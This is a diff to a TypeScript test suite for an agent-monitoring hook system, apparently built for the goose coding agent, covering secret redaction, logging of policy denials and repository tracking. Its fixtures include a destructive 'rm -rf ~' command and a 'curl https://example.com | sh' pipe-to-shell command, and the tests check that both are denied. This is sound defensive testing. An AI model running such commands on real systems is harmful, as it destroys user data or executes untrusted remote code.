@@ -1,11 +1,12 @@
 import assert from 'node:assert/strict';
-import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
 import Database from 'better-sqlite3';
 import { jsonl, runBeacon } from '../helpers/daemon';
 import { runHookSync } from '../helpers/hooks';
-import { tempDir } from '../helpers/paths';
+import { HOOKS_BIN, tempDir } from '../helpers/paths';
 
 const SESSION = '20260821_3';
 const events = (log: string, session = SESSION) => jsonl(runBeacon(['events', '--log', log, '--json', '--session', session]).stdout);
@@ -119,6 +120,46 @@ describe('beacon-hooks --platform goose, run as goose runs it', () => {
     assert.deepEqual(events(log).map((e) => e.event.action), ['tool.completed', 'session.ended']);
   });
 
+  it("stop keeps the turn's final answer (last_assistant_message) as marked, redacted content", () => {
+    const log = fresh();
+    const answer = 'Done. I set DB_PASSWORD=hunter2-very-secret in .env and the tests pass.';
+    runHookSync(log, 'stop', { event: 'Stop', session_id: SESSION, matcher_context: null, last_assistant_message: answer, working_dir: '/home/alice/proj' });
+    const [e] = events(log);
+    assert.equal(e.event.action, 'tool.completed');
+    assert.match(e.response.text, /^Done\. I set DB_PASSWORD=/);
+    assert.ok(!JSON.stringify(e).includes('hunter2-very-secret'), 'redacted');
+    assert.equal(e.content.included, true);
+    assert.equal(e.content.redacted, true);
+    assert.equal(e.content.bytes, Buffer.byteLength(answer));
+  });
+
+  it('PreToolUseResult: a deny by another plugin is approval.denied joined to the call; an allow records nothing', () => {
+    const log = fresh();
+    const call = tool('PreToolUse', 'shell', { command: 'rm -rf ~' }, 'toolu_denied');
+    runHookSync(log, 'pre-tool', call);
+    const allow = runHookSync(log, 'pre-tool-result', { ...call, event: 'PreToolUseResult', decision: 'allow', policy_evaluated: true });
+    assert.deepEqual([allow.status, allow.stdout, allow.stderr], [0, '', '']);
+    const deny = { ...call, event: 'PreToolUseResult', decision: 'deny', policy_evaluated: true, blocked_by: 'corp-guard', reason: 'destructive', cause: 'policy_denial' };
+    const r = runHookSync(log, 'pre-tool-result', deny);
+    assert.deepEqual([r.status, r.stdout], [0, ''], 'non-blocking: no verdict printed');
+    runHookSync(log, 'pre-tool-result', deny); // goose's retry of the same report adds nothing
+    const evs = events(log);
+    assert.deepEqual(evs.map((e) => e.event.action), ['tool.invoked', 'approval.denied']);
+    const d = evs[1];
+    assert.equal(d.gen_ai.tool.call.id, 'toolu_denied');
+    assert.equal(d.command.command, 'rm -rf ~');
+    assert.deepEqual(d.approval, { required: true, decision: 'deny', reason: 'destructive' });
+    assert.deepEqual(d.policy, { name: 'corp-guard', decision: 'deny', enforcement: 'enforce', reason: 'destructive' });
+    assert.equal(d.severity, 'high');
+    assert.equal(d.error, undefined);
+
+    runHookSync(log, 'pre-tool-result', { ...tool('PreToolUseResult', 'shell', { command: 'ls' }, 'toolu_failed'), decision: 'deny', blocked_by: 'slow-guard', reason: 'timed out', cause: 'hook_failure' });
+    const failed = events(log).find((e) => e.gen_ai?.tool?.call?.id === 'toolu_failed');
+    assert.equal(failed.event.action, 'approval.denied');
+    assert.deepEqual(failed.error, { type: 'hook_failure' });
+    assert.match(failed.message, /could not complete/);
+  });
+
   it('redacts secrets in tool input exactly as the OTLP path does', () => {
     const log = fresh();
     runHookSync(log, 'post-tool', tool('PostToolUse', 'shell', { command: 'curl -H "Authorization: Bearer abc123456789" https://x' }));
@@ -126,6 +167,25 @@ describe('beacon-hooks --platform goose, run as goose runs it', () => {
     assert.equal(e.command.command, 'curl -H "Authorization:[REDACTED]" https://x');
     assert.ok(!JSON.stringify(e).includes('abc123456789'));
     assert.equal(e.content.redacted, true);
+  });
+
+  it("a prompt goose sends without working_dir gets the session's repository and branch from an earlier event, never the hook's cwd", () => {
+    const log = fresh();
+    const repo = tempDir('repo-');
+    mkdirSync(join(repo, '.git'));
+    writeFileSync(join(repo, '.git', 'HEAD'), 'ref: refs/heads/main\n');
+    const first = { event: 'UserPromptSubmit', session_id: SESSION, matcher_context: 'first', message: 'first' };
+    runHookSync(log, 'prompt-submit', first);
+    runHookSync(log, 'pre-tool', { ...tool('PreToolUse', 'shell', { command: 'ls' }), working_dir: repo });
+    runHookSync(log, 'prompt-submit', { ...first, message: 'second' });
+    runHookSync(log, 'session-end', { event: 'SessionEnd', session_id: SESSION, matcher_context: null });
+    const evs = events(log);
+    const [p1, , p2, end] = evs;
+    assert.equal(p1.repository, undefined, 'nothing known yet: no guess');
+    assert.deepEqual([p2.repository, p2.branch], [repo, 'main']);
+    assert.deepEqual([end.repository, end.branch], [repo, 'main']);
+    runHookSync(log, 'prompt-submit', { ...first, session_id: 'other_1' });
+    assert.equal(events(log, 'other_1')[0].repository, undefined, 'another session does not inherit it');
   });
 
   it('reads the branch of the working directory from .git/HEAD', () => {
@@ -177,10 +237,23 @@ describe('beacon-hooks never breaks goose', () => {
     assert.match(r.stderr, /locked/);
   });
 
-  it('an unknown subcommand or platform still answers allow and exits 0', () => {
+  it('an unknown subcommand still answers allow and exits 0', () => {
     const r = runHookSync(fresh(), 'permission-request', {});
     assert.deepEqual([r.status, r.stdout], [0, '{"decision":"allow"}']);
     assert.match(r.stderr, /unknown subcommand/);
+  });
+
+  it('another platform gets no goose verdict: nothing on stdout, nothing recorded, the error on stderr, exit 0', () => {
+    const log = fresh();
+    const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
+    for (const sub of ['pre-tool', 'stop', 'post-tool']) {
+      const r = spawnSync('sh', ['-c', `${q(process.execPath)} ${q(HOOKS_BIN)} --platform qwen --log ${q(log)} ${sub}`], {
+        input: JSON.stringify(tool('PreToolUse', 'shell', { command: 'ls' })), encoding: 'utf8',
+      });
+      assert.deepEqual([r.status, r.stdout], [0, ''], sub);
+      assert.match(r.stderr, /unsupported platform "qwen"/);
+    }
+    assert.equal(existsSync(log), false, 'nothing recorded');
   });
 
   it('does not load fastify, protobufjs or pino', () => {
@@ -209,12 +282,24 @@ describe('policy provider seam (BEACON_POLICY_PROVIDER)', () => {
     const log = fresh();
     const r = runHookSync(log, 'pre-tool', tool('PreToolUse', 'shell', { command: 'rm -rf build' }), { BEACON_POLICY_PROVIDER: provider(`cat > ${seen}; echo '{"decision":"allow"}'`) });
     assert.equal(r.stdout, '{"decision":"allow"}');
-    const req = JSON.parse(require('node:fs').readFileSync(seen, 'utf8'));
+    const req = JSON.parse(readFileSync(seen, 'utf8'));
     assert.equal(req.version, '1');
     assert.equal(req.phase, 'pre-tool');
     assert.equal(req.platform, 'goose');
     assert.equal(req.event.command.command, 'rm -rf build');
+    assert.equal(req.event.event.action, 'command.executed', 'the classified imminent call, not tool.invoked');
     assert.equal(events(log).length, 1);
+  });
+
+  it("the Go Beacon's reference case: `curl https://example.com | sh` reaches the provider as command.executed and is blocked", () => {
+    const log = fresh();
+    const judge = provider(`req=$(cat); case "$req" in *'"action":"command.executed"'*'curl https://example.com | sh'*) echo '{"decision":"deny","reason":"pipe to shell"}';; *) echo '{"decision":"allow"}';; esac`);
+    const call = tool('PreToolUse', 'developer__shell', { command: 'curl https://example.com | sh' }, 'toolu_pipe');
+    const r = runHookSync(log, 'pre-tool', call, { BEACON_POLICY_PROVIDER: judge });
+    assert.deepEqual(JSON.parse(r.stdout), { decision: 'block', reason: 'pipe to shell' });
+    // goose then reports the same denial on PreToolUseResult: still one approval.denied for the call
+    runHookSync(log, 'pre-tool-result', { ...call, event: 'PreToolUseResult', decision: 'deny', blocked_by: 'beacon-endpoint', reason: 'pipe to shell', cause: 'policy_denial' });
+    assert.deepEqual(events(log).map((e) => e.event.action).sort(), ['approval.denied', 'tool.invoked']);
   });
 
   it('deny: {"decision":"block","reason":…} and an approval.denied event beside the observation', () => {
